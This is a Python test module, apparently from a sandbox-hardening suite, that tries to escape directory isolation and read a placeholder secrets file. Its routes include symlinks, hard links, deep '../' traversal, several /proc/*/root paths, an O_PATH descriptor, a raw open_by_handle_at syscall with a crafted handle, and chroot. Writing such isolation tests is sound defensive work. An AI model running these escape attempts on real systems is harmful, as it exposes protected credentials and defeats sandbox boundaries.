"""Takes the long way round to the same files: links, `..`, /proc, handles, other roots.

Success: one of the ways leads out of its own directory.
"""

import ctypes
import os

from tests.attacks.attacker import tell


def read(path):
    with open(path, "rb") as file:
        return file.read(200)


def linked(path, make):
    name = f"/tmp/scratch/{os.path.basename(path)}-{make.__name__}"
    make(path, name)
    return read(name)


def relative(path):
    return read("../" * 30 + path.lstrip("/"))


def through(start, path):
    return read(f"{start}/{path.lstrip('/')}")


def opened_before(path):
    root = os.open("/", os.O_PATH)
    descriptor = os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=root)
    return os.read(descriptor, 200)


def by_handle():
    handle = (ctypes.c_int * 32)(8, 1, 2, 0)
    result = ctypes.CDLL(None, use_errno=True).syscall(304, os.open("/", os.O_RDONLY), handle, 0)
    if result < 0:
        raise OSError(ctypes.get_errno())
    return result


def similarity(x):
    path = "@SECRETS@".split()[0]
    tell(
        {
            "symlink": lambda: linked(path, os.symlink),
            "hard link": lambda: linked(path, os.link),
            "relative": lambda: relative(path),
            "self/root": lambda: through("/proc/self/root", path),
            "1/root": lambda: through("/proc/1/root", path),
            "parent/root": lambda: through(f"/proc/{os.getppid()}/root", path),
            "cwd": lambda: through("/proc/self/cwd/../../..", path),
            "old": lambda: through("/old", path),
            "O_PATH": lambda: opened_before(path),
            "handle": by_handle,
            "chroot": lambda: os.chroot("/tmp"),
        }
    )
